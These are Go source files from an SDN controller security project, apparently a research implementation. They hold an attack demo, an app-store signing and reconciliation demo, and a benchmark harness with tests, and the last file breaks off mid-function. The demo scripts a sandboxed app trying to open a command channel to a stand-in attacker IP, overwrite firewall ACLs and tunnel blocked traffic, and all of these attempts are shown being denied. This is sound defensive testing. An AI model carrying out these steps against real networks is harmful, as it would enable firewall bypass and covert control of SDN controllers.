		fmt.Println("  (delivery failed)")
	}
	fmt.Printf("  routes installed: %d, denials so far: %d\n", router.Routes(), router.Denials())

	// --- the malicious payload wakes up ---
	fmt.Println("\n== covert attacks from inside the routing app ==")
	api, err := isolation.AttackerHandle(shield, "router")
	if err != nil {
		return err
	}

	// Call home for instructions: no host_network permission at all.
	_, err = api.HostConnect(of.IPv4FromOctets(203, 0, 113, 9), 443)
	report("open command channel to the attacker", err)

	// Overwrite the firewall's ACL (Class 3/4): denied by OWN_FLOWS.
	aclMatch := of.NewMatch().
		Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
		Set(of.FieldIPProto, uint64(of.IPProtoTCP)).
		Set(of.FieldTPDst, 22)
	report("overwrite the firewall's port-22 ACL",
		api.InsertFlow(1, controller.FlowSpec{
			Match: aclMatch, Priority: 900, Actions: []of.Action{of.Output(3)},
		}))
	report("delete the firewall's rules", api.DeleteFlow(1, aclMatch, 0, false))

	// Dynamic-flow tunneling through the firewall (the first rewrite of
	// malicious.Tunneler.Establish): the header rewrite is denied by
	// ACTION FORWARD, and shadowing the ACL by OWN_FLOWS.
	report("tunnel entry rewrite (22 -> 80)",
		api.InsertFlow(1, controller.FlowSpec{
			Match: of.NewMatch().
				Set(of.FieldEthType, uint64(of.EthTypeIPv4)).
				Set(of.FieldIPProto, uint64(of.IPProtoTCP)).
				Set(of.FieldTPDst, 22),
			Priority: 950,
			Actions:  []of.Action{of.SetField(of.FieldTPDst, 80), of.Output(3)},
		}))

	// Port 22 stays blocked end to end.
	h1.SendTCP(h3, 4001, 22, of.TCPFlagSYN, nil)
	if _, smuggled := h3.WaitFor(func(p *of.Packet) bool { return p.TPDst == 22 }, 300*time.Millisecond); smuggled {
		fmt.Println("  !! port 22 traffic leaked through")
	} else {
		fmt.Println("  port-22 traffic still blocked by the firewall")
	}

	// --- forensics ---
	time.Sleep(10 * time.Millisecond)
	fmt.Println("\n== activity log (denials) ==")
	for _, rec := range shield.Engine().Log().Denials() {
		fmt.Println(" ", rec)
	}
	return nil
}

func report(desc string, err error) {
	if err != nil {
		fmt.Printf("  BLOCKED %-40s %v\n", desc, err)
	} else {
		fmt.Printf("  SUCCESS %s\n", desc)
	}
}
