// Appstore models the SDN app-market workflow of §III end to end on the
// internal/market subsystem: vendors sign releases with Ed25519 keys,
// the store's provenance gate rejects tampering and unknown vendors, the
// reconciliation engine (behind the verdict cache) produces approved /
// repaired / rejected verdicts, repaired manifests wait for
// administrator sign-off, and a live upgrade runs under a probation
// window that auto-rolls back when the new release misbehaves. The
// finale attaches the async job spine (installs ride a durable queue
// and answer with a pollable job ID) and stands up a replica plus a
// federated downstream store, each re-verifying every release locally.
package main

import (
	"errors"
	"fmt"
	"io"
	"log"
	"net/http"
	"net/http/httptest"
	"strings"
	"sync"
	"time"

	"sdnshield/internal/core"
	"sdnshield/internal/isolation"
	"sdnshield/internal/jobs"
	"sdnshield/internal/market"
	"sdnshield/internal/obs"
	"sdnshield/internal/obs/audit"
	"sdnshield/internal/obs/span"
	"sdnshield/internal/tenant"
)

// sitePolicy is the administrator's template: a boundary for third-party
// apps plus the attack-pattern mutual exclusions.
const sitePolicy = `
# Stub bindings for this deployment.
LET LocalTopo = {SWITCH 1,2,3,4}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}

# No app may both talk to the outside world and shape traffic.
ASSERT EITHER { PERM network_access } OR { PERM send_packet_out }
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`

// submissions are the app releases under review with their shipped
// manifests.
var submissions = []struct {
	name     string
	vendor   string
	version  string
	manifest string
}{
	{
		name: "l2switch", vendor: "opendaylight", version: "1.0.0",
		manifest: `
PERM pkt_in_event
PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
PERM send_pkt_out LIMITING FROM_PKT_IN
`,
	},
	{
		name: "tenant-monitor", vendor: "acme-netwatch", version: "1.0.0",
		manifest: `
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`,
	},
	{
		name: "load-balancer", vendor: "flowbalance", version: "1.0.0",
		manifest: `
PERM pkt_in_event
PERM insert_flow LIMITING WILDCARD IP_DST 255.255.255.0
PERM send_pkt_out LIMITING FROM_PKT_IN
PERM read_statistics LIMITING PORT_LEVEL
`,
	},
}

// demoRuntime stands in for a live isolation.Shield: it records the
// permission sets the market activates and serves scripted app health so
// the probation monitor has something to watch.
type demoRuntime struct {
	mu     sync.Mutex
	perms  map[string]*core.Set
	health map[string]isolation.Health
}

func newDemoRuntime() *demoRuntime {
	return &demoRuntime{
		perms:  make(map[string]*core.Set),
		health: make(map[string]isolation.Health),
	}
}

func (d *demoRuntime) SetPermissions(app string, set *core.Set) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.perms[app] = set
}

func (d *demoRuntime) AppHealth(app string) (isolation.Health, bool) {
	d.mu.Lock()
	defer d.mu.Unlock()
	h, ok := d.health[app]
	return h, ok
}

func (d *demoRuntime) setHealth(app string, h isolation.Health) {
	d.mu.Lock()
	defer d.mu.Unlock()
	d.health[app] = h
}

func main() {
	// --- The store: trusted vendors and their signing keys.
	reg := market.NewRegistry()
	keys := make(map[string]func(market.Release) *market.SignedRelease)
	for _, vendor := range []string{"opendaylight", "acme-netwatch", "flowbalance"} {
		pub, priv, err := market.GenerateKey()
		if err != nil {
			log.Fatal(err)
		}
		if err := reg.TrustVendor(vendor, pub); err != nil {
			log.Fatal(err)
		}
		p := priv
		keys[vendor] = func(r market.Release) *market.SignedRelease { return market.Sign(r, p) }
	}

	rt := newDemoRuntime()
	m, err := market.New(reg, rt, market.Config{
		PolicySrc:     sitePolicy,
		Probation:     300 * time.Millisecond,
		ProbationPoll: 5 * time.Millisecond,
	})
	if err != nil {
		log.Fatal(err)
	}
	defer m.Close()

	// --- Provenance gate: tampered and unsigned submissions never reach
	// reconciliation.
	fmt.Println("==== provenance gate ====")
	tampered := keys["flowbalance"](market.Release{
		Name: "load-balancer", Vendor: "flowbalance", Version: "0.9.0",
		Manifest: "PERM read_statistics",
	})
	tampered.Manifest = "PERM read_statistics\nPERM process_runtime" // supply-chain rewrite
	if _, err := reg.Submit(tampered); err != nil {
		fmt.Println("  tampered package:", err)
	}
	_, roguePriv, _ := market.GenerateKey()
	rogue := market.Sign(market.Release{
		Name: "telemetry-exporter", Vendor: "unknown", Version: "1.0.0",
		Manifest: "PERM read_payload\nPERM network_access",
	}, roguePriv)
	if _, err := reg.Submit(rogue); err != nil {
		fmt.Println("  unknown vendor:  ", err)
	}
	fmt.Println()

	// --- Install pipeline: submit, reconcile (verdict cache in front of
	// Algorithm 1), activate or park for sign-off.
	for _, sub := range submissions {
		fmt.Printf("==== %s@%s (%s) ====\n", sub.name, sub.version, sub.vendor)
		sr := keys[sub.vendor](market.Release{
			Name: sub.name, Vendor: sub.vendor, Version: sub.version, Manifest: sub.manifest,
		})
		digest, err := reg.Submit(sr)
		if err != nil {
			fmt.Println("  REJECTED at the gate:", err)
			continue
		}
		res, err := m.Install(digest)
		if err != nil && res == nil {
			fmt.Println("  REJECTED:", err)
			continue
		}
		fmt.Printf("  verdict: %s (cache hit: %v)\n", res.Verdict, res.CacheHit)
		for _, v := range res.Violations {
			fmt.Println("   ", v)
		}
		if res.Status == market.StatusPending {
			fmt.Println("  administrator signs off the repaired manifest…")
			if res, err = m.Approve(sub.name); err != nil {
				log.Fatal(err)
			}
		}
		fmt.Printf("  status: %s; deployable permissions:\n", res.Status)
		for _, line := range strings.Split(res.Effective, "\n") {
			fmt.Println("   ", line)
		}
		fmt.Println()
	}

	// --- Verdict cache: resubmitting the same package skips Algorithm 1.
	fmt.Println("==== verdict cache ====")
	again := keys["opendaylight"](market.Release{
		Name: "l2switch", Vendor: "opendaylight", Version: "1.0.0",
		Manifest: submissions[0].manifest,
	})
	d, err := reg.Submit(again) // idempotent: same content address
	if err != nil {
		log.Fatal(err)
	}
	res, err := m.Evaluate(d)
	if err != nil {
		log.Fatal(err)
	}
	hits, misses := m.Cache().Stats()
	fmt.Printf("  re-evaluating l2switch@1.0.0: cache hit: %v (process counters: %d hits, %d misses)\n\n",
		res.CacheHit, hits, misses)

	// --- Live upgrade with probation and automatic rollback.
	fmt.Println("==== upgrade probation ====")
	rt.setHealth("l2switch", isolation.Running)
	v2 := keys["opendaylight"](market.Release{
		Name: "l2switch", Vendor: "opendaylight", Version: "2.0.0",
		Manifest: "PERM pkt_in_event\nPERM insert_flow LIMITING ACTION FORWARD\nPERM send_pkt_out LIMITING FROM_PKT_IN",
	})
	d2, err := reg.Submit(v2)
	if err != nil {
		log.Fatal(err)
	}
	diff, _, err := m.DiffLatest("l2switch")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(indent(diff, "  "))
	res, err = m.Upgrade(d2)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("  upgraded to 2.0.0: status %s\n", res.Status)
	fmt.Println("  the new release starts crash-looping…")
	rt.setHealth("l2switch", isolation.Restarting)
	deadline := time.Now().Add(5 * time.Second)
	for {
		if s, ok := m.Status("l2switch"); ok && s.Status == market.StatusActive && s.Version == "1.0.0" {
			fmt.Printf("  rolled back automatically: active release %s, status %s\n", s.Version, s.Status)
			break
		}
		if time.Now().After(deadline) {
			log.Fatal("probation rollback did not happen")
		}
		time.Sleep(5 * time.Millisecond)
	}

	// --- Async job spine: installs ride a durable queue and answer with
	// a job ID instead of blocking the caller.
	fmt.Println("\n==== async job spine ====")
	jm, err := jobs.Open(jobs.Config{}) // in-memory for the demo; pass Dir for a WAL
	if err != nil {
		log.Fatal(err)
	}
	defer jm.Close()
	m.AttachJobs(jm, 2)
	auditor := keys["acme-netwatch"](market.Release{
		Name: "flow-auditor", Vendor: "acme-netwatch", Version: "1.0.0",
		Manifest: "PERM read_statistics\nPERM visible_topology LIMITING LocalTopo",
	})
	corr := audit.NextCorr()
	da, err := reg.SubmitTraced(auditor, corr)
	if err != nil {
		log.Fatal(err)
	}
	root := span.Root(corr, "demo:install")
	jobID, err := m.SubmitJob(market.QueueInstall, market.JobRequest{Digest: da.String()}, corr, root.Context())
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("  enqueued install of flow-auditor@1.0.0 as job %d (trace /trace/%d)\n", jobID, corr)
	for {
		snap, ok := jm.Status(jobID)
		if !ok {
			log.Fatal("job vanished")
		}
		if snap.State == jobs.StateDone || snap.State == jobs.StateDead {
			fmt.Printf("  job %d: %s after %d attempt(s)\n", jobID, snap.State, snap.Attempts)
			break
		}
		time.Sleep(2 * time.Millisecond)
	}
	root.End()
	if s, ok := m.Status("flow-auditor"); ok {
		fmt.Printf("  flow-auditor is %s at %s\n", s.Status, s.Version)
	}
	fmt.Printf("  trace %d retained %d spans (enqueue, queue wait, pipeline stages)\n",
		corr, len(span.DefaultCollector().Trace(corr)))

	// --- Replication and federation: a replica ships the leader's
	// release log wholesale; a federated downstream pulls by digest
	// anti-entropy but admits only vendors it provisioned itself. Both
	// re-verify every signature locally — the wire carries only claims.
	fmt.Println("\n==== replication & federation ====")
	market.MountHTTP(m)
	leader := httptest.NewServer(obs.NewHandler(obs.Default(), nil))
	defer leader.Close()

	replica := market.NewRegistry()
	rep := market.NewSyncer(replica, market.SyncConfig{
		Upstream: leader.URL, Mode: market.SyncReplica, TrustUpstreamKeys: true,
	})
	if _, err := rep.SyncOnce(); err != nil {
		log.Fatal(err)
	}
	rs := rep.Stats()
	fmt.Printf("  replica:    admitted %d release(s), in sync: %v (root %.12s…)\n",
		rs.Admitted, replica.RootDigest() == reg.RootDigest(), replica.RootDigest())

	downstream := market.NewRegistry()
	odlKey, _ := reg.VendorKey("opendaylight")
	if err := downstream.TrustVendor("opendaylight", odlKey); err != nil {
		log.Fatal(err)
	}
	fed := market.NewSyncer(downstream, market.SyncConfig{
		Upstream: leader.URL, Mode: market.SyncFederate, // keeps its own trust anchors
	})
	if _, err := fed.SyncOnce(); err != nil {
		log.Fatal(err)
	}
	fs := fed.Stats()
	fmt.Printf("  federation: admitted %d, rejected %d (only opendaylight is trusted downstream)\n",
		fs.Admitted, fs.Rejected)

	// --- Multi-tenant hosting: one process, many isolated stores. Each
	// tenant gets its own market, registry, verdict cache and job queues
	// behind a tenant.Manager; scoped HTTP under /t/<tenant>/ shows each
	// tenant only its own world, and per-tenant admission turns the soft
	// BUDGET quotas into hard 429s at the front door. One SIGINT hook
	// (jobs.DrainAll) still drains every tenant's queues.
	fmt.Println("\n==== multi-tenant hosting ====")
	tmgr, err := tenant.NewManager(tenant.Config{PolicySrc: sitePolicy})
	if err != nil {
		log.Fatal(err)
	}
	defer tmgr.Close()
	alpha, err := tmgr.Create("alpha")
	if err != nil {
		log.Fatal(err)
	}
	bravo, err := tmgr.CreateWith("bravo", tenant.AdmissionConfig{
		CallsPerSec: 0.5, CallBurst: 2, // tiny on purpose: the demo exhausts it
	})
	if err != nil {
		log.Fatal(err)
	}
	odl, _ := reg.VendorKey("opendaylight")
	if err := alpha.Market().Registry().TrustVendor("opendaylight", odl); err != nil {
		log.Fatal(err)
	}
	srAlpha := keys["opendaylight"](market.Release{
		Name: "l2switch", Vendor: "opendaylight", Version: "1.0.0",
		Manifest: submissions[0].manifest,
	})
	dAlpha, err := alpha.Market().Registry().Submit(srAlpha)
	if err != nil {
		log.Fatal(err)
	}
	if _, err := alpha.Market().Install(dAlpha); err != nil {
		log.Fatal(err)
	}

	tenant.MountHTTP(tmgr)
	ts := httptest.NewServer(obs.NewHandler(obs.Default(), nil))
	defer ts.Close()
	// Scoped routes require the tenant header (production fronts this
	// with a proxy that injects it after authenticating the caller).
	for _, id := range []string{"alpha", "bravo"} {
		path := "/t/" + id + "/market/apps"
		req, err := http.NewRequest("GET", ts.URL+path, nil)
		if err != nil {
			log.Fatal(err)
		}
		req.Header.Set(tenant.HeaderTenant, id)
		resp, err := http.DefaultClient.Do(req)
		if err != nil {
			log.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		fmt.Printf("  GET %-22s -> %d, %d bytes (bravo sees none of alpha's apps)\n",
			path, resp.StatusCode, len(body))
	}

	for i := 1; ; i++ {
		if err := bravo.Do("read_statistics", func() error { return nil }); err != nil {
			var te *tenant.ThrottleError
			if errors.As(err, &te) {
				fmt.Printf("  bravo throttled after %d calls: %v\n", i-1, te)
			}
			break
		}
	}
	if err := alpha.Do("read_statistics", func() error { return nil }); err != nil {
		log.Fatal(err)
	}
	fmt.Println("  alpha is unaffected by its neighbour's exhaustion")
	fmt.Printf("  resident tenants: %d (evict/suspend/pin via POST /tenants)\n", tmgr.Resident())

	snaps := m.Snapshot()
	fmt.Println("\n==== final market state ====")
	for _, s := range snaps {
		status := string(s.Status)
		if status == "" {
			status = "not installed"
		}
		fmt.Printf("  %-16s %-10s %s (releases: %s)\n", s.App, s.Version, status, strings.Join(s.Releases, ", "))
	}
}

func indent(s, prefix string) string {
	lines := strings.Split(strings.TrimRight(s, "\n"), "\n")
	for i, l := range lines {
		lines[i] = prefix + l
	}
	return strings.Join(lines, "\n") + "\n"
}
