// Appstore models the SDN app-market workflow of §III: several app
// releases arrive with their shipped permission manifests; the
// administrator's site policy is applied to each; and the reconciliation
// engine produces a per-app review report — clean approvals, repaired
// manifests awaiting sign-off, and the exact privileges each app will
// run with.
package main

import (
	"fmt"
	"log"

	"sdnshield"
)

// sitePolicy is the administrator's template: a boundary for third-party
// apps plus the attack-pattern mutual exclusions.
const sitePolicy = `
# Stub bindings for this deployment.
LET LocalTopo = {SWITCH 1,2,3,4}
LET AdminRange = {IP_DST 10.1.0.0 MASK 255.255.0.0}

# No app may both talk to the outside world and shape traffic.
ASSERT EITHER { PERM network_access } OR { PERM send_packet_out }
ASSERT EITHER { PERM network_access } OR { PERM insert_flow }
`

// submissions are the app releases under review with their shipped
// manifests.
var submissions = []struct {
	name     string
	vendor   string
	manifest string
}{
	{
		name:   "l2switch",
		vendor: "OpenDaylight community",
		manifest: `
PERM pkt_in_event
PERM insert_flow LIMITING ACTION FORWARD AND OWN_FLOWS
PERM send_pkt_out LIMITING FROM_PKT_IN
`,
	},
	{
		name:   "tenant-monitor",
		vendor: "Acme NetWatch",
		manifest: `
PERM visible_topology LIMITING LocalTopo
PERM read_statistics
PERM network_access LIMITING AdminRange
PERM insert_flow
`,
	},
	{
		name:   "load-balancer",
		vendor: "FlowBalance Inc",
		manifest: `
PERM pkt_in_event
PERM insert_flow LIMITING WILDCARD IP_DST 255.255.255.0
PERM send_pkt_out LIMITING FROM_PKT_IN
PERM read_statistics LIMITING PORT_LEVEL
`,
	},
	{
		name:   "telemetry-exporter",
		vendor: "unknown",
		manifest: `
PERM visible_topology
PERM read_statistics
PERM read_payload
PERM pkt_in_event
PERM network_access
PERM send_packet_out
`,
	},
}

func main() {
	policy, err := sdnshield.ParsePolicy(sitePolicy)
	if err != nil {
		log.Fatal(err)
	}

	approved, flagged := 0, 0
	for _, sub := range submissions {
		fmt.Printf("==== %s (%s) ====\n", sub.name, sub.vendor)
		manifest, err := sdnshield.ParseManifest(sub.manifest)
		if err != nil {
			fmt.Println("  REJECTED: manifest does not parse:", err)
			continue
		}
		result, err := sdnshield.Reconcile(sub.name, manifest, policy)
		if err != nil {
			log.Fatal(err)
		}
		if result.Clean {
			approved++
			fmt.Println("  status: APPROVED as requested")
		} else {
			flagged++
			fmt.Println("  status: REPAIRED — administrator review required")
			for _, v := range result.Violations {
				fmt.Println("   ", v)
			}
		}
		fmt.Println("  deployable permissions:")
		for _, line := range splitLines(result.Permissions.String()) {
			fmt.Println("   ", line)
		}
		fmt.Println()
	}
	fmt.Printf("summary: %d approved unchanged, %d repaired\n", approved, flagged)
}

func splitLines(s string) []string {
	var out []string
	start := 0
	for i := 0; i < len(s); i++ {
		if s[i] == '\n' {
			out = append(out, s[start:i])
			start = i + 1
		}
	}
	if start < len(s) {
		out = append(out, s[start:])
	}
	return out
}
