package cbench

import (
	"testing"
	"time"

	"sdnshield/internal/apps"
	"sdnshield/internal/controller"
	"sdnshield/internal/isolation"
	"sdnshield/internal/of"
)

func newKernelWithL2(t *testing.T) (*controller.Kernel, *apps.L2Switch) {
	t.Helper()
	k := controller.New(nil, nil)
	t.Cleanup(k.Stop)
	l2 := apps.NewL2Switch("l2switch")
	if err := isolation.NewMonolith(k).Launch(l2); err != nil {
		t.Fatal(err)
	}
	return k, l2
}

func TestConnectHandshake(t *testing.T) {
	k, _ := newKernelWithL2(t)
	fs, err := Connect(k, 7, 4)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()
	if fs.DPID() != 7 {
		t.Errorf("DPID = %v", fs.DPID())
	}
	if got := len(k.Switches()); got != 1 {
		t.Errorf("registered switches = %d", got)
	}
	// The kernel's topology sees the advertised ports.
	if ports := k.Switches()[0].Ports; len(ports) != 4 {
		t.Errorf("ports = %v", ports)
	}
}

func TestPacketInDrivesController(t *testing.T) {
	k, l2 := newKernelWithL2(t)
	fs, err := Connect(k, 1, 4)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()

	// Unknown destination: the controller floods (a packet-out).
	if err := fs.SendPacketIn(1, 2, 1); err != nil {
		t.Fatal(err)
	}
	msg, err := fs.WaitResponse(2 * time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if msg.Type() != of.MsgPacketOut {
		t.Errorf("first response = %v, want PACKET_OUT flood", msg.Type())
	}

	// Now host 2's location is learned: traffic to it earns a flow-mod.
	fs.Drain()
	if err := fs.SendPacketIn(3, 1, 3); err != nil {
		t.Fatal(err)
	}
	if _, err := fs.WaitFlowMod(2 * time.Second); err != nil {
		t.Fatalf("no flow-mod: %v", err)
	}
	if fs.FlowMods() == 0 || fs.PacketOuts() == 0 || fs.Responses() < 2 {
		t.Errorf("counters = %d flowmods, %d pktouts", fs.FlowMods(), fs.PacketOuts())
	}
	pins, _, _ := l2.Stats()
	if pins < 2 {
		t.Errorf("l2switch saw %d packet-ins", pins)
	}
}

func TestMeasureLatency(t *testing.T) {
	k, _ := newKernelWithL2(t)
	fs, err := Connect(k, 1, 4)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()

	// Pre-learn destination 2.
	if err := fs.SendPacketIn(2, 9, 2); err != nil {
		t.Fatal(err)
	}
	if _, err := fs.WaitResponse(2 * time.Second); err != nil {
		t.Fatal(err)
	}
	d, err := fs.MeasureLatency(1, 2, 2*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if d <= 0 || d > time.Second {
		t.Errorf("latency = %v", d)
	}
}

func TestPortStatusPropagates(t *testing.T) {
	k, _ := newKernelWithL2(t)
	fs, err := Connect(k, 1, 4)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()

	got := make(chan string, 4)
	k.Subscribe(controller.EventTopology, func(ev controller.Event) {
		got <- ev.TopoChange.What
	})
	if err := fs.SendPortStatus(2, false); err != nil {
		t.Fatal(err)
	}
	select {
	case what := <-got:
		if what != "port-down" {
			t.Errorf("event = %q", what)
		}
	case <-time.After(2 * time.Second):
		t.Fatal("no topology event")
	}
}

func TestStatsAnswered(t *testing.T) {
	k, _ := newKernelWithL2(t)
	fs, err := Connect(k, 1, 4)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()

	// The fake switch fabricates stats so monitoring apps can run.
	ports, err := k.PortStats(1, of.PortNone)
	if err != nil || len(ports) == 0 {
		t.Errorf("PortStats = %v, %v", ports, err)
	}
	flows, err := k.FlowStats(1, nil)
	if err != nil || len(flows) == 0 {
		t.Errorf("FlowStats = %v, %v", flows, err)
	}
	ss, err := k.SwitchStats(1)
	if err != nil || ss.FlowCount == 0 {
		t.Errorf("SwitchStats = %+v, %v", ss, err)
	}
	if err := k.Barrier(1); err != nil {
		t.Errorf("Barrier: %v", err)
	}
}

func TestFloodStopsAndCounts(t *testing.T) {
	k, _ := newKernelWithL2(t)
	fs, err := Connect(k, 1, 4)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()

	stop := make(chan struct{})
	done := make(chan uint64, 1)
	go func() { done <- fs.Flood(stop) }()
	time.Sleep(30 * time.Millisecond)
	close(stop)
	select {
	case sent := <-done:
		if sent == 0 {
			t.Error("flood sent nothing")
		}
	case <-time.After(2 * time.Second):
		t.Fatal("flood did not stop")
	}
	if fs.Responses() == 0 {
		t.Error("no responses during flood")
	}
}

func TestWaitResponseTimeout(t *testing.T) {
	k, _ := newKernelWithL2(t)
	fs, err := Connect(k, 1, 4)
	if err != nil {
		t.Fatal(err)
	}
	defer fs.Close()
	if _, err := fs.WaitResponse(20 * time.Millisecond); err != ErrTimeout {
		t.Errorf("err = %v, want ErrTimeout", err)
	}
}
