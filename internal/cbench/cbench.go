// Package cbench is the controller benchmarking harness modeled on
// CBench, the OpenFlow message generator of the paper's evaluation
// (§IX-A): fake switches speak the control protocol to the controller —
// no data plane behind them — injecting packet-ins at configurable rates
// and timing the controller's flow-mod/packet-out responses. It drives
// the end-to-end latency (Fig. 6), throughput (Fig. 7) and scalability
// (Fig. 8) experiments.
package cbench

import (
	"errors"
	"fmt"
	"sync/atomic"
	"time"

	"sdnshield/internal/controller"
	"sdnshield/internal/of"
)

// ErrTimeout reports a response that never arrived.
var ErrTimeout = errors.New("cbench: timed out waiting for response")

// FakeSwitch emulates one OpenFlow switch on a control connection: it
// answers the handshake and liveness probes itself, counts flow-mods and
// packet-outs, and exposes them as a response stream for latency timing.
type FakeSwitch struct {
	dpid  of.DPID
	ports int
	conn  of.Conn

	responses chan of.Message
	flowMods  atomic.Uint64
	pktOuts   atomic.Uint64

	bufSeq atomic.Uint32

	done chan struct{}
}

// Connect creates a fake switch and registers it with the kernel.
func Connect(kernel *controller.Kernel, dpid of.DPID, ports int) (*FakeSwitch, error) {
	ctrlSide, swSide := of.Pipe()
	fs := &FakeSwitch{
		dpid:      dpid,
		ports:     ports,
		conn:      swSide,
		responses: make(chan of.Message, 4096),
		done:      make(chan struct{}),
	}
	if err := swSide.Send(&of.Hello{Header: of.Header{Xid: 1}}); err != nil {
		return nil, err
	}
	go fs.serve()
	if _, err := kernel.AcceptSwitch(ctrlSide); err != nil {
		fs.Close()
		return nil, fmt.Errorf("cbench: accept: %w", err)
	}
	return fs, nil
}

// DPID returns the fake switch's datapath id.
func (fs *FakeSwitch) DPID() of.DPID { return fs.dpid }

// Close tears the control connection down.
func (fs *FakeSwitch) Close() {
	fs.conn.Close()
	<-fs.done
}

// FlowMods returns the number of flow-mods received.
func (fs *FakeSwitch) FlowMods() uint64 { return fs.flowMods.Load() }

// PacketOuts returns the number of packet-outs received.
func (fs *FakeSwitch) PacketOuts() uint64 { return fs.pktOuts.Load() }

// Responses returns the total controller responses (flow-mods +
// packet-outs) received.
func (fs *FakeSwitch) Responses() uint64 { return fs.flowMods.Load() + fs.pktOuts.Load() }

func (fs *FakeSwitch) serve() {
	defer close(fs.done)
	for {
		msg, err := fs.conn.Recv()
		if err != nil {
			return
		}
		switch m := msg.(type) {
		case *of.Hello:
		case *of.EchoRequest:
			//nolint:errcheck // liveness reply failure ends the session anyway
			fs.conn.Send(&of.EchoReply{Header: of.Header{Xid: m.Xid}, Data: m.Data})
		case *of.FeaturesRequest:
			ports := make([]of.PortInfo, fs.ports)
			for i := range ports {
				ports[i] = of.PortInfo{Port: uint16(i + 1), Name: fmt.Sprintf("p%d", i+1), Up: true}
			}
			//nolint:errcheck
			fs.conn.Send(&of.FeaturesReply{
				Header: of.Header{Xid: m.Xid}, DPID: fs.dpid,
				NumPorts: uint16(fs.ports), Ports: ports,
			})
		case *of.BarrierRequest:
			//nolint:errcheck
			fs.conn.Send(&of.BarrierReply{Header: of.Header{Xid: m.Xid}})
		case *of.StatsRequest:
			//nolint:errcheck
			fs.conn.Send(cannedStats(m))
		case *of.FlowMod:
			fs.flowMods.Add(1)
			fs.offer(msg)
		case *of.PacketOut:
			fs.pktOuts.Add(1)
			fs.offer(msg)
		}
	}
}

func (fs *FakeSwitch) offer(msg of.Message) {
	select {
	case fs.responses <- msg:
	default:
		// Throughput runs outpace the latency listener; dropping is fine
		// because the atomic counters already recorded the response.
	}
}

// cannedStats fabricates a plausible stats reply so monitoring-style apps
// can run against fake switches.
func cannedStats(req *of.StatsRequest) *of.StatsReply {
	reply := &of.StatsReply{Header: of.Header{Xid: req.Xid}, DPID: req.DPID, Kind: req.Kind}
	switch req.Kind {
	case of.StatsPort:
		reply.Ports = []of.PortStatsEntry{{Port: 1, RxPackets: 100, TxPackets: 90}}
	case of.StatsFlow:
		reply.Flows = []of.FlowStatsEntry{{Match: of.NewMatch(), Priority: 1, Packets: 10, Bytes: 1000}}
	case of.StatsSwitch:
		reply.Switch = of.SwitchStats{FlowCount: 1, PacketsTotal: 10, BytesTotal: 1000}
	}
	return reply
}

// hostMAC fabricates a host MAC for (switch, index).
func hostMAC(dpid of.DPID, idx int) of.MAC {
	return of.MAC{0x0a, byte(dpid >> 8), byte(dpid), 0, byte(idx >> 8), byte(idx)}
}

// SendPacketIn injects one packet-in carrying an ARP frame from srcIdx's
// MAC toward dstIdx's MAC, the trigger traffic of the L2 scenario.
func (fs *FakeSwitch) SendPacketIn(srcIdx, dstIdx int, inPort uint16) error {
	pkt := &of.Packet{
		EthSrc:  hostMAC(fs.dpid, srcIdx),
		EthDst:  hostMAC(fs.dpid, dstIdx),
		EthType: of.EthTypeARP,
		IPSrc:   of.IPv4(0x0a000000 | uint32(srcIdx)),
		IPDst:   of.IPv4(0x0a000000 | uint32(dstIdx)),
	}
	return fs.conn.Send(&of.PacketIn{
		Header:   of.Header{Xid: fs.bufSeq.Add(1)},
		DPID:     fs.dpid,
		InPort:   inPort,
		Reason:   of.ReasonNoMatch,
		BufferID: fs.bufSeq.Add(1),
		Packet:   pkt,
	})
}

// SendPortStatus injects a port-status change, the trigger of the ALTO/TE
// scenario's event chain.
func (fs *FakeSwitch) SendPortStatus(port uint16, up bool) error {
	return fs.conn.Send(&of.PortStatus{
		Header: of.Header{Xid: fs.bufSeq.Add(1)},
		DPID:   fs.dpid,
		Reason: of.PortModified,
		Port:   of.PortInfo{Port: port, Name: fmt.Sprintf("p%d", port), Up: up},
	})
}

// WaitResponse blocks for the next flow-mod or packet-out, up to timeout.
func (fs *FakeSwitch) WaitResponse(timeout time.Duration) (of.Message, error) {
	select {
	case msg := <-fs.responses:
		return msg, nil
	case <-time.After(timeout):
		return nil, ErrTimeout
	}
}

// WaitFlowMod blocks for the next flow-mod specifically.
func (fs *FakeSwitch) WaitFlowMod(timeout time.Duration) (*of.FlowMod, error) {
	deadline := time.Now().Add(timeout)
	for {
		remaining := time.Until(deadline)
		if remaining <= 0 {
			return nil, ErrTimeout
		}
		msg, err := fs.WaitResponse(remaining)
		if err != nil {
			return nil, err
		}
		if fm, ok := msg.(*of.FlowMod); ok {
			return fm, nil
		}
	}
}

// Drain empties the response stream.
func (fs *FakeSwitch) Drain() {
	for {
		select {
		case <-fs.responses:
		default:
			return
		}
	}
}

// MeasureLatency runs the L2-scenario latency probe once: packet-in to a
// pre-learned destination, timed until the resulting flow-mod arrives.
func (fs *FakeSwitch) MeasureLatency(srcIdx, dstIdx int, timeout time.Duration) (time.Duration, error) {
	fs.Drain()
	start := time.Now()
	if err := fs.SendPacketIn(srcIdx, dstIdx, uint16(srcIdx%fs.ports)+1); err != nil {
		return 0, err
	}
	if _, err := fs.WaitFlowMod(timeout); err != nil {
		return 0, err
	}
	return time.Since(start), nil
}

// Flood sends packet-ins as fast as possible until stop closes,
// returning how many were sent (throughput pressure mode).
func (fs *FakeSwitch) Flood(stop <-chan struct{}) uint64 {
	var sent uint64
	i := 0
	for {
		select {
		case <-stop:
			return sent
		default:
		}
		// Alternate among a small host population so the controller does
		// real learning work.
